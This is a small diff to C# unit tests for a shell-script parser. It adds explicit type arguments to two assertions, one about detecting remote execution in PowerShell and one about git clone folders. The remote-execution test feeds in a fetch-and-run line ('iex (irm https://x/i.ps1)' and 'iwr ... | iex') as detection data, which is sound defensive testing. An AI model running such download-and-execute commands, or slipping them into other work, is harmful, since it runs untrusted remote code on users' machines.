@@ -132,7 +132,7 @@ public sealed class ShellFactsTests
     public void RemoteExecutions_InPowerShell_AreFound()
     {
         ShellScript script = ShellScript.Parse(ShellTreeText.Text("iex (irm https://x/i.ps1); iwr https://y | iex"), ShellDialect.PowerShell);
-        Assert.Equal(["iex", "iex"], script.RemoteExecutions.Select(execution => execution.Command.Name));
+        Assert.Equal<string>(["iex", "iex"], script.RemoteExecutions.Select(execution => execution.Command.Name));
     }
 
     [Theory]
@@ -206,7 +206,7 @@ public sealed class ShellFactsTests
     public void Clones_OfGit_KnowTheirFolder()
     {
         ShellScript script = Parse("cd /src && git clone --depth 1 -b v1.2 https://github.com/a/b.git && git -C x clone git@host:c/d /e");
-        Assert.Equal(["v1.2 /src/b", "<Absent> /e"], script.Clones.Select(clone => $"{clone.Reference} {clone.Directory}"));
+        Assert.Equal<string>(["v1.2 /src/b", "<Absent> /e"], script.Clones.Select(clone => $"{clone.Reference} {clone.Directory}"));
     }
 
     private static ShellScript Parse(string script) => ShellScript.Parse(ShellTreeText.Text(script), ShellDialect.Bash);
